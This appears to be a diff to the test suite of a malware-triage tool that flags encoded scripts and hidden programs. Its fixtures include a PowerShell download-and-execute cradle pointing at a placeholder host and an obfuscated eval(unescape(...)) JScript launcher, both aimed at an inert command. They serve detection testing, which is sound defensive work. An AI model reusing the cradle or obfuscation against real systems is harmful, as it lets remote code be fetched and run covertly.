@@ -14,6 +14,8 @@ from emotriage.model.finding import GUESS, Finding, Trait
 from emotriage.model.indicator import Indicator
 from emotriage.model.limits import Budget, Limits
 from emotriage.model.padding import RunFinder
+from emotriage.model.step import Recovered, Step
+from emotriage.testing import encoded_script
 
 RUN = 'CreateObject("WScript.Shell").Run "emotriage-inert"'
 CRADLE = "IEX (New-Object Net.WebClient).DownloadString('http://example.invalid/a.ps1')"
@@ -158,9 +160,30 @@ def test_a_program_in_a_literal_is_a_child():
     assert "embedded-file" in rules_of(found)
 
 
-def test_an_encoded_script_is_a_gap():
+def test_an_encoded_script_is_judged_as_what_it_says():
+    plain = 'Set shell = CreateObject("WScript.Shell")\nshell.Run "emotriage-inert /x"\n'
+    found = look(encoded_script(plain))
+    assert rules_of(found) == rules_of(look(plain)) | {"encoded-script"}
+    assert not any(one.incomplete for one in found if isinstance(one, Finding))
+    assert [(one.value, one.origin) for one in found if isinstance(one, Indicator)] == [
+        ("emotriage-inert /x", "decoded")
+    ]
+    assert [one.text for one in found if isinstance(one, Recovered)] == [plain.replace("\n", "\r\n")]
+
+
+def test_an_encoded_script_that_breaks_off_is_a_gap():
     found = look("#@~^EAAAAA==xyzEAAAAA==^#~@")
-    assert [(one.rule, one.incomplete) for one in found] == [("script.encoded-script", True)]
+    assert {(one.rule, one.incomplete) for one in found if isinstance(one, Finding)} == {
+        ("script.encoded-script", False),
+        ("script.damaged-encoding", True),
+    }
+
+
+def test_a_script_tells_its_story():
+    hidden = "".join(f"%{ord(one):02x}" for one in 'new ActiveXObject("WScript.Shell").Run("emotriage-inert /x")')
+    steps = [one for one in look(f"eval(unescape('{hidden}'));\n", name="a.js") if isinstance(one, Step)]
+    assert [(one.action, one.depth) for one in steps] == [("begin", 0), ("decode", 1), ("create", 0), ("start", 0)]
+    assert steps[-1].text == "emotriage-inert /x"
 
 
 @pytest.mark.parametrize("fill", [b"\0", b" ", b"\n"])
